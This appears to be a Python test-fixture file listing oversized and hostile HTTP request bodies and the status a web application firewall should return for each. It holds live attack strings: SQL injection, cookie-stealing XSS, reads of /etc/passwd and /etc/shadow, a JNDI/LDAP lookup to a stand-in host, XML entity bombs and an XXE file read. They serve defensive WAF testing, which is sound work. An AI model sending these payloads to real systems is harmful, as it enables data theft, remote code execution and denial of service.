"""Hostile request shapes for the WAF, with the answer each must get under the default limits.

Used by tests/filters/waf/test_hostile.py (statuses, never a 5xx) and bench/waf_hostile.py (WAF
CPU per shape). Each shape stays within the gateway's own edge limits (ingress: URI 8 KB, header
block 16 KB, 100 header lines; WAF: 128 KB inspected body) unless its name says "over".

``expect``: a reason id the WAF answers with, or ``"inspected"`` (the rules ran: allowed, or
403 ``waf_blocked`` when they see an attack; either way no 5xx and no limit).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

BODY_LIMIT = 131072


@dataclass(frozen=True)
class Shape:
    name: str
    expect: str
    body: bytes = b""
    content_type: str | None = None
    target: str = "/api/items"
    method: str = "POST"
    extra_headers: tuple[tuple[str, str], ...] = field(default=())

    def headers(self) -> list[tuple[str, str]]:
        h = [("Host", "api.example.no"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*")]
        if self.content_type:
            h.append(("Content-Type", self.content_type))
        if self.body or self.method == "POST":
            h.append(("Content-Length", str(len(self.body))))
        return h + list(self.extra_headers)


def _xml(encoding: str, text: str = "Søknad om byggetillatelse 日本 한국 中文") -> bytes:
    try:
        return f'<?xml version="1.0" encoding="{encoding}"?><doc lang="no"><t>{text}</t></doc>'.encode(
            encoding
        )
    except (UnicodeEncodeError, LookupError):
        return f'<?xml version="1.0" encoding="{encoding}"?><doc lang="no"><t>text</t></doc>'.encode("ascii")


def _billion_laughs() -> bytes:
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{ents}]><lolz>&lol9;</lolz>'.encode()


def _quadratic_blowup() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "'
        + b"B" * 50_000
        + b'">]><kaboom>'
        + b"&a;" * 20_000
        + b"</kaboom>"
    )[:BODY_LIMIT]


def _multipart(parts: int, value: bytes = b"v", header_lines: int = 0) -> tuple[bytes, str]:
    b = b"----hostileboundary"
    out = []
    for i in range(parts):
        extra = b"".join(b"X-Extra-%d: y\r\n" % k for k in range(header_lines))
        out.append(
            b"--"
            + b
            + b'\r\nContent-Disposition: form-data; name="f%d"\r\n' % i
            + extra
            + b"\r\n"
            + value
            + b"\r\n"
        )
    return b"".join(out) + b"--" + b + b"--\r\n", "multipart/form-data; boundary=" + b.decode()


def _dense(n: int) -> bytes:
    """Attack keywords, densely: what makes CRS work hardest per byte."""
    piece = (
        b"1' UNION SELECT password FROM users-- <script>alert(document.cookie)</script> "
        b"../../etc/passwd ;cat /etc/shadow `id` ${jndi:ldap://x/a} {{7*7}} "
    )
    return (piece * (n // len(piece) + 1))[:n]


def shapes() -> list[Shape]:
    form = "application/x-www-form-urlencoded"
    js = "application/json"
    out = [
        # --- JSON
        Shape("json deep 60 (within)", "inspected", b"[" * 60 + b"1" + b"]" * 60, js),
        Shape("json deep 100 (over)", "waf_json_too_deep", b"[" * 100 + b"1" + b"]" * 100, js),
        Shape("json deep 60000 (over)", "waf_json_too_deep", b"[" * 60000 + b"]" * 60000, js),
        Shape("json objects deep 5000 (over)", "waf_json_too_deep", b'{"a":' * 5000 + b"1" + b"}" * 5000, js),
        Shape("json 9000 empty arrays (within)", "inspected", b"[" + b",".join([b"[]"] * 9000) + b"]", js),
        Shape(
            "json 40000 empty arrays (over)",
            "waf_json_too_large",
            b"[" + b",".join([b"[]"] * 40000) + b"]",
            js,
        ),
        Shape(
            "json 1000 scalars (within)",
            "inspected",
            json.dumps({f"k{i}": i for i in range(1000)}).encode(),
            js,
        ),
        Shape("json 5000 scalars (over)", "waf_too_many_args", json.dumps(list(range(5000))).encode(), js),
        Shape(
            "json 128 KB string of quotes (within)",
            "inspected",
            json.dumps({"q": "'\"" * 32000}).encode(),
            js,
        ),
        Shape("json invalid utf-8", "waf_body_unparsable", b'{"a": "\xff\xfe"}', js),
        Shape("json huge integer", "waf_body_unparsable", b'{"a": ' + b"9" * 100_000 + b"}", js),
        Shape("json truncated", "waf_body_unparsable", b'{"a": [1, 2, {"b": "c"', js),
        # --- arguments
        Shape(
            "form 1000 args (within)", "inspected", b"&".join(b"a%d=%d" % (i, i) for i in range(1000)), form
        ),
        Shape(
            "form 3000 args (over)",
            "waf_too_many_args",
            b"&".join(b"a%d=%d" % (i, i) for i in range(3000)),
            form,
        ),
        Shape("form 30000 empty args (over)", "waf_too_many_args", b"&".join([b"a="] * 30000), form),
        Shape(
            "query 1000 args (within, GET)",
            "inspected",
            method="GET",
            target="/api/items?" + "&".join(f"{i}=" for i in range(1000))[:8000],
        ),
        Shape(
            "query 3000 args (over, GET)",
            "waf_too_many_args",
            method="GET",
            target="/api/items?" + "&".join(["a"] * 3000),
        ),
        Shape(
            "form 1000 dense args (within)",
            "inspected",
            b"&".join(
                b"a%d=" % i + _dense(120).replace(b"&", b"%26").replace(b"=", b"%3D") for i in range(1000)
            )[:BODY_LIMIT],
            form,
        ),
        # --- long values
        Shape("form one 128 KB value (within)", "inspected", b"q=" + b"a" * (BODY_LIMIT - 2), form),
        Shape("form one 128 KB dense attack value", "inspected", b"q=" + _dense(BODY_LIMIT - 2), form),
        Shape("form 128 KB of %u escapes", "inspected", b"q=" + b"%u0027" * ((BODY_LIMIT - 2) // 6), form),
        Shape(
            "form 128 KB overlong utf-8",
            "inspected",
            b"q=" + b"%c0%ae%c0%af" * ((BODY_LIMIT - 2) // 12),
            form,
        ),
        Shape(
            "form 128 KB of html entities",
            "inspected",
            b"q=" + b"%26#x3c;%26lt;" * ((BODY_LIMIT - 2) // 14),
            form,
        ),
        Shape("raw 128 KB no content type", "inspected", _dense(BODY_LIMIT), None),
        Shape("body over the inspection limit", "waf_body_limit", b"q=" + b"a" * BODY_LIMIT, form),
        # --- multipart
        Shape("multipart 200 parts (within)", "inspected", *_multipart(200)),
        Shape("multipart 201 parts (over)", "waf_too_many_parts", *_multipart(201)),
        Shape("multipart 1500 parts (over)", "waf_too_many_parts", *_multipart(1500)),
        Shape("multipart 200 dense parts (within)", "inspected", *_multipart(200, _dense(500))),
        Shape("multipart one part, 3000 header lines", "inspected", *_multipart(1, b"v", 3000)),
        # --- headers
        Shape(
            "100 headers (within)",
            "inspected",
            method="GET",
            extra_headers=tuple((f"X-H{i}", "v" * 100) for i in range(97)),
        ),
        Shape(
            "150 headers (over)",
            "waf_too_many_headers",
            method="GET",
            extra_headers=tuple((f"X-H{i}", "v") for i in range(147)),
        ),
        Shape(
            "cookie header of 2000 cookies",
            "inspected",
            method="GET",
            extra_headers=(("Cookie", "; ".join(f"c{i}=" for i in range(2000))[:8000]),),
        ),
        Shape(
            "dense attack in 90 headers",
            "inspected",
            method="GET",
            extra_headers=tuple((f"X-H{i}", _dense(160).decode()) for i in range(90)),
        ),
        # --- XML and encodings
        Shape("xml billion laughs", "waf_body_unparsable", _billion_laughs(), "application/xml"),
        Shape("xml quadratic blowup", "waf_body_unparsable", _quadratic_blowup(), "application/xml"),
        Shape(
            "xml external entity",
            "waf_body_unparsable",
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            "text/xml",
        ),
        # an external DTD is refused (red team F03: out-of-band XXE through the backend's parser)
        Shape(
            "xml external dtd",
            "waf_body_unparsable",
            b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd"><r>1</r>',
            "application/xml",
        ),
        Shape("xml unknown encoding", "waf_body_unparsable", _xml("x-portvakt-unknown"), "application/xml"),
        Shape(
            "xml shift_jis undecodable bytes",
            "waf_body_unparsable",
            b'<?xml version="1.0" encoding="Shift_JIS"?><a>\x81\xff\xa0</a>',
            "application/xml",
        ),
        Shape(
            "xml 10000 attributes (over)",
            "waf_too_many_args",
            b"<r>" + b"".join(b'<a x="%d"/>' % i for i in range(10000)) + b"</r>",
            "application/xml",
        ),
        Shape("xml deep 15000", "inspected", b"<a>" * 15000 + b"x" + b"</a>" * 15000, "application/xml"),
        Shape(
            "soap envelope utf-16",
            "inspected",
            '<?xml version="1.0" encoding="UTF-16"?><Envelope><Body>hei</Body></Envelope>'.encode("utf-16"),
            "application/soap+xml",
        ),
    ]
    for enc in ("Shift_JIS", "EUC-JP", "GBK", "Big5", "EUC-KR", "UTF-7", "windows-1252", "ISO-8859-1"):
        out.append(Shape(f"xml declared {enc}", "inspected", _xml(enc), "application/xml"))
    return out
